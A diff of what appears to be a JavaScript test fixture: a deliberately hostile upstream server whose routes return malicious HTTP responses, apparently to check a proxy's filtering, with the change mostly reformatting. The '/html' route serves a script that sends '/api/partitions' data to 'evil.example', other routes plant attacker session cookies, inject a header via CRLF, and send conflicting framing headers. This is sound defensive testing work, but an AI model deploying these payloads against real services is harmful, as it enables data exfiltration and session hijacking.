@@ -37,21 +37,52 @@ const behaviours = {
   },
   "/remembered": () => json({ headers: remembered }),
   "/framing": () =>
-    reply(200, [
-      ["content-type", "text/plain"], ["content-length", "5"], ["connection", "keep-alive"], ["keep-alive", "timeout=999"],
-      ["upgrade", "h2c"], ["te", "trailers"], ["trailer", "x-after"], ["proxy-authenticate", "Basic"], ["x-kept", "yes"],
-    ], SMUGGLED),
-  "/chunked": () => reply(200, [["transfer-encoding", "chunked"], ["content-type", "text/plain"]], "not really chunked"),
+    reply(
+      200,
+      [
+        ["content-type", "text/plain"],
+        ["content-length", "5"],
+        ["connection", "keep-alive"],
+        ["keep-alive", "timeout=999"],
+        ["upgrade", "h2c"],
+        ["te", "trailers"],
+        ["trailer", "x-after"],
+        ["proxy-authenticate", "Basic"],
+        ["x-kept", "yes"],
+      ],
+      SMUGGLED,
+    ),
+  "/chunked": () =>
+    reply(
+      200,
+      [
+        ["transfer-encoding", "chunked"],
+        ["content-type", "text/plain"],
+      ],
+      "not really chunked",
+    ),
   "/host-cookie": () => reply(200, [["set-cookie", "dormant_session=attacker; Path=/"]], "signed you in as me"),
   "/token-cookie": () => reply(200, [["Set-Cookie", "__Host-Dormant_token=attacker; Path=/; Secure"]], "and again"),
   "/own-cookie": () => reply(200, [["set-cookie", "theme=dark; Path=/"]], "a cookie of my own"),
   "/html": () =>
-    reply(200, [["content-type", "text/html"], ["content-security-policy", "script-src *"], ["x-content-type-options", "none"]],
-      "<!doctype html><script>fetch('/api/partitions').then((r) => r.text()).then((t) => fetch('https://evil.example/?' + t))</script>"),
+    reply(
+      200,
+      [
+        ["content-type", "text/html"],
+        ["content-security-policy", "script-src *"],
+        ["x-content-type-options", "none"],
+      ],
+      "<!doctype html><script>fetch('/api/partitions').then((r) => r.text()).then((t) => fetch('https://evil.example/?' + t))</script>",
+    ),
   "/bad-name": () => reply(200, [["bad header", "x"]], "bad name"),
   "/bad-value": () => reply(200, [["x-note", "a\r\nset-cookie: dormant_session=attacker"]], "header injection"),
   "/wide-value": () => reply(200, [["x-note", "caf\u00e9 \u20ac"]], "a character above U+00FF"),
-  "/many-headers": () => reply(200, Array.from({ length: 500 }, (_, i) => [`x-h${i}`, "v"]), "500 headers"),
+  "/many-headers": () =>
+    reply(
+      200,
+      Array.from({ length: 500 }, (_, i) => [`x-h${i}`, "v"]),
+      "500 headers",
+    ),
   "/informational": () => reply(101, [["upgrade", "websocket"]], ""),
   "/renew": () => {
     renew({ tag: "after", val: 1n });
